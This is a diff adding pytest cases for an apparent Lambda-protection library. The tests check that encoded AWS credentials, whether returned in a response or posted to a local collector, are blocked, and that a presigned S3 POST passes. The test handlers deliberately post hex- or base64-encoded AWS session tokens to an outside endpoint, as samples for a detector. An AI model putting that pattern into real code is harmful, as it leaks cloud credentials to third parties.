@@ -268,3 +268,62 @@ def test_the_extension_header_elsewhere_is_still_exfiltration(how: str, collecto
     [record] = records.detections()
     assert record["rule"] == "credential_exfiltration.outbound"
     assert_no_secret_in(json.dumps(records.all()))
+
+
+# ---------------------------------------------------------------- encodings
+
+def _encode(how: str, value: str) -> str:
+    if how == "hex":
+        return value.encode().hex()
+    if how == "reversed":
+        return value[::-1]
+    if how == "base64 blob":
+        return base64.b64encode(json.dumps({"v": 1, "creds": value}).encode()).decode()
+    return base64.urlsafe_b64encode(value.encode()).decode()
+
+
+ENCODINGS = ["hex", "reversed", "base64 blob", "base64url"]
+
+
+@pytest.mark.parametrize("how", ENCODINGS)
+def test_encoded_credentials_in_the_response_are_blocked(how: str, records) -> None:
+    @protect(mode="block")
+    def handler(event, context):
+        return {"statusCode": 200, "body": json.dumps({"debug": _encode(how, os.environ["AWS_SECRET_ACCESS_KEY"])})}
+
+    reply = handler(apigw_v1_event(), LambdaContext())
+    assert reply["statusCode"] == 403
+    assert _encode(how, os.environ["AWS_SECRET_ACCESS_KEY"]) not in json.dumps(reply)
+    [record] = records.detections()
+    assert record["rule"] == "credential_exfiltration.response"
+    assert_no_secret_in(json.dumps(records.all()))
+
+
+@pytest.mark.parametrize("how", ENCODINGS)
+def test_encoded_credentials_sent_out_are_blocked_before_a_byte_is_sent(how: str, collector: LocalServer,
+                                                                       records) -> None:
+    @protect(mode="block")
+    def handler(event, context):
+        requests.post(f"{collector.url}/c", data=_encode(how, os.environ["AWS_SESSION_TOKEN"]), timeout=TIMEOUT)
+        return {"statusCode": 200}
+
+    assert handler(apigw_v1_event(), LambdaContext())["statusCode"] == 403
+    assert collector.requests == []
+    [record] = records.detections()
+    assert record["rule"] == "credential_exfiltration.outbound"
+
+
+def test_a_presigned_post_returned_passes_unchanged(records) -> None:
+    token = os.environ["AWS_SESSION_TOKEN"]
+    policy = {"expiration": "2026-12-02T12:00:00Z",
+              "conditions": [{"bucket": "uploads"}, {"x-amz-security-token": token}]}
+    fields = {"key": "user/a.png", "x-amz-security-token": token,
+              "policy": base64.b64encode(json.dumps(policy).encode()).decode(), "x-amz-signature": "00ff" * 16}
+    answer = {"statusCode": 200, "body": json.dumps({"url": "https://uploads.s3.amazonaws.com/", "fields": fields})}
+
+    @protect(mode="block")
+    def handler(event, context):
+        return answer
+
+    assert handler(apigw_v1_event(), LambdaContext()) == answer
+    assert records.detections() == []
